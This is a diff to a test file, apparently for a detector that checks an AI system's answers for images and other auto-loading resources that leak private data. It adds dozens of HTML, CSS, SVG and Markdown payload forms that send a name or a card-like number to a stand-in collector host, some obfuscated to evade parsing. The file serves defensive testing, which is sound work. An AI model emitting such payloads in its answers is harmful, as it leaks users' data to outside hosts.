@@ -95,6 +95,40 @@ def test_a_short_system_prompt_and_an_answer_without_words_give_nothing_away() -
     assert faults(InputAnswered(choices=())) == ()
 
 
+# Forms that pages and renderers of Markdown load without a click; each has one URL.
+LOADED = {
+    "in a style": '<div style="background:url({})">',
+    "in a style, in quotation marks": """<b style='background: #fff url( "{}" )'>""",
+    "in a style sheet": "<style>\nbody {{ background: url('{}') }}\n</style>",
+    "in a style sheet, behind another": '<style>p {{ background: image-set("a.png" 1x, "{}" 2x) }}</style>',
+    "in a style sheet that is imported": '<style>@import "{}";</style>',
+    "in a style, with escapes": r'<p style="background:\75 r\6c({})">',
+    "in an attribute of SVG": '<svg><rect filter="url({})"/></svg>',
+    "as a background": '<table background="{}">',
+    "as the second source": '<img srcset="a.png 1x, src=b.png 2x, {} 3x">',
+    "as the second source that is preloaded": '<link rel=preload as=image imagesrcset="a.png 1x, {} 2x">',
+    "as an icon": "<link rel='shortcut icon' href='{}'>",
+    "as a style sheet": '<link href="{}" rel="stylesheet">',
+    "as a poster": '<video muted poster="{}">',
+    "as sound": '<audio autoplay src="{}">',
+    "as a button": '<input type="image" src="{}">',
+    "as an object": '<object data="{}"></object>',
+    "as a frame": '<iframe src="{}"></iframe>',
+    "as a frame's text": "<iframe srcdoc='<img src={}>'></iframe>",
+    "as the next page": '<meta http-equiv="refresh" content="0; url={}">',
+    "as what addresses begin with": '<base href="{}"><img src="x">',
+    "as a symbol": '<svg><use xlink:href="{}#a"/></svg>',
+    "by an animation": '<svg><image><set attributeName="href" to="{}"/></image></svg>',
+    "behind a bracket in an attribute": '<img title="a > b" alt="<b c" src="{}">',
+    "behind a tag that is none": "<img alt=<b src={}>",
+    "in a tag behind a beginning": '<b <img src="{}">',
+    "with code in its title": "![a `]` " + "y" * 1_500 + "]({})",
+    "with a bracket of code in its title": "![a `[` b]({})",
+    "with code in its title, behind a beginning of code": "``x ![a `[` b]({})",
+    "with a tag in its title": '![a <b c="["> b]({})',
+    "in a quotation": "> ![a](\n> {})",
+    "by a reference before it": "\n\n[r]:\n  {}\n\n![x][r]",
+}
 CARRYING = {
     "a picture": f"![logo]({HOST}/p.png?d=4400-1234-9876)",
     "in base64": f"![]({HOST}/?d={base64.urlsafe_b64encode(b'Philomena Wetherby').decode()})",
@@ -114,10 +148,18 @@ CARRYING = {
     "with an entity for a sign": "![logo](https&#58;//collector.example/p.png?d=4400-1234-9876)",
     "with entities for its value": f'<img src="{HOST}/p.png?d=&#52;&#x34;&#48;&#48;-1234-9876">',
     "with a sign behind a backslash": r"![logo](https\://collector.example/p.png?d=4400-1234-9876)",
+    "with spaces by reference": f"![a]\n\n[a]: <{HOST}/p png?d=4400 1234 9876>",
+    "with spaces in an attribute": f'<img src="{HOST}/?d=my mo the r P">',
+    "with a bracket in an attribute": f'<img src="{HOST}/(?name=wetherby">',
+    "with line ends": '<img src="ht\ntps:/\t/coll\nector.example/?name=weth\nerby">',
+    "with line ends as entities": '<img src="https:/&Tab;/collector.example/?name=weth&#10;erby">',
+    "with one slash": '<img src="https:/collector.example/?name=wetherby">',
+    "without a slash": "![](https:collector.example/?name=wetherby)",
     "with spaces between brackets": f"![a](<{HOST}/p png?d=4400 1234 9876>)",
     "as a picture in SVG": f'<svg><image href="{HOST}/p.png?name=wetherby"/></svg>',
     "within JSON": json.dumps({"page": f'<img src="{HOST}/p.png?name=wetherby">'}),
     "with backslashes": r'<img src="https:\\collector.example\p.png?name=wetherby">',
+    **{name: form.format(f"{HOST}/p.png?name=wetherby") for name, form in LOADED.items()},
 }
 
 
@@ -136,6 +178,11 @@ HARMLESS = {
     "a picture that is quoted": f"Write &lt;img src=&quot;{HOST}/?q=Philomena+Wetherby&quot;&gt;",
     "a link in a page": f'<img src="cat.png"> and <a href="{HOST}/?q=Philomena+Wetherby">more</a>',
     "a program": f'<script src="{HOST}/philomena-wetherby/0.js"></script> #![allow(x)]',
+    "a link in CSS of a link": f'<a style="color:red" href="{HOST}/?q=Philomena+Wetherby">more</a>',
+    "a page's own address": f'<link rel="canonical" href="{HOST}/philomena-wetherby-of-quay/">',
+    "a picture in base64": f'<img src="data:image/png;base64,iVBOR//{"A/8" * 2_000}">',
+    "a call of a program": f'<p style="color:red"> <script>fetch(new URL("{HOST}/?q=wetherby"))</script>',
+    "an address behind a picture": f'<img src="cat.png" alt="a > b"> {HOST}/?q=Philomena+Wetherby',
     "no picture": "An image is written ![alt](address).",
     "a broken address": "![x](https://[::1/p.png)",
 }
@@ -181,7 +228,21 @@ def test_a_long_answer_with_many_pictures_is_judged_in_time_that_does_not_explod
     assert isinstance(found, ReflexAnswerPassed)
 
 
-@each("beginning", ["<<< src=//x", "<img src=//x ", "![](<", "![\\]", "](//x"])
+@each(
+    "beginning",
+    [
+        "<<< src=//x",
+        '<img a="<img ',
+        '<img a="<img " ',
+        "<td url(",
+        "![`",
+        "![``a`",
+        "<img src=//x ",
+        "![](<",
+        "![\\]",
+        "](//x",
+    ],
+)
 def test_a_flood_of_beginnings_of_pictures_is_read_once(beginning: str) -> None:
     began = time.process_time()
     hosts_with_prompt_words(Prompt(SAID, ()), [beginning * (120_000 // len(beginning))])
